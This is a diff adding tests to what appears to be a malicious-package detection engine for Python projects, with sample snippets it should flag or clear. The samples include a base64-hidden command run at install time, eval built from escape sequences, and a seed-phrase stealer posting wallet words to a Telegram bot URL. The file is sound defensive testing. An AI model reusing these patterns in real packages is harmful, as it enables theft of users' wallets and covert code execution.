@@ -80,6 +80,64 @@ TEST_CASE("one strong technique in setup.py is medium, hidden it is high", "[eng
   }
 }
 
+TEST_CASE("a decoded command run at install time is high, a plain one medium", "[engine][python]") {
+  SECTION("a command hidden in a base64 constant") {
+    auto a = run({{"setup.py",
+                   "import base64, subprocess\n"
+                   "cmd = base64.b64decode('ZWNobyBoaWRkZW4=').decode()\n"
+                   "subprocess.run(cmd, shell=True)\n"}});
+    CHECK(has(a.threats, "install-exec"));
+    CHECK(a.risk >= Risk::high);
+  }
+  SECTION("decompressing run-time data before a build command stays medium") {
+    auto a = run({{"setup.py",
+                   "import zlib, subprocess\n"
+                   "data = zlib.decompress(open('vendor.z', 'rb').read())\n"
+                   "subprocess.run('make -C vendor', shell=True)\n"}});
+    CHECK(a.risk == Risk::medium);
+  }
+  SECTION("decoding in runtime code next to a process start stays below high") {
+    auto a = run({{"pkg/tool.py",
+                   "import base64, subprocess\n"
+                   "cfg = base64.b64decode(load())\n"
+                   "subprocess.run(['git', 'status'])\n"}});
+    CHECK(a.risk < Risk::high);
+  }
+}
+
+TEST_CASE("code written only in escape sequences and run is a staged payload", "[engine][python]") {
+  auto a = run({{"pkg/__init__.py",
+                 "ev = eval(\"\\145\\166\\141\\x6c\")\nev(\"\\x70\\x72\\x69\\x6e\\x74\")\n"}});
+  CHECK(has(a.threats, "staged-payload"));
+  CHECK(a.risk >= Risk::high);
+  auto b = run({{"pkg/__init__.py", "print(eval('1 + 2'))\nprint('\\x41\\x42\\x43')\n"}});
+  CHECK(b.risk < Risk::high);
+}
+
+TEST_CASE("a seed phrase or private key sent to a webhook host is exfiltration",
+          "[engine][python]") {
+  std::string drainer =
+      "import requests\n"
+      "def connect():\n"
+      "    words = input('enter your 12 seed phrase words: ').split()\n"
+      "    requests.post('https://api.telegram.org/bot0000:TOKEN/sendMessage',\n"
+      "                  json={'chat_id': 1, 'text': ' '.join(words)})\n";
+  auto a = run({{"pkg/wallet.py", drainer}});
+  CHECK(has(a.threats, "exfiltration"));
+  CHECK(a.risk >= Risk::high);
+
+  SECTION("a wallet library that names private keys and talks to its own node is not") {
+    auto b = run({{"pkg/wallet.py",
+                   "import requests\n"
+                   "def sign(private_key, tx):\n"
+                   "    return _sign(tx, private_key)\n"
+                   "def broadcast(tx):\n"
+                   "    return requests.post('https://node.example.org/tx', json=tx)\n"}});
+    CHECK_FALSE(has(b.threats, "exfiltration"));
+    CHECK(b.risk < Risk::high);
+  }
+}
+
 TEST_CASE("decoding into exec is high by itself", "[engine][python]") {
   auto a = run({{"pkg/__init__.py", "import base64\nexec(base64.b64decode(BLOB))\n"}});
   CHECK(has(a.threats, "staged-payload"));
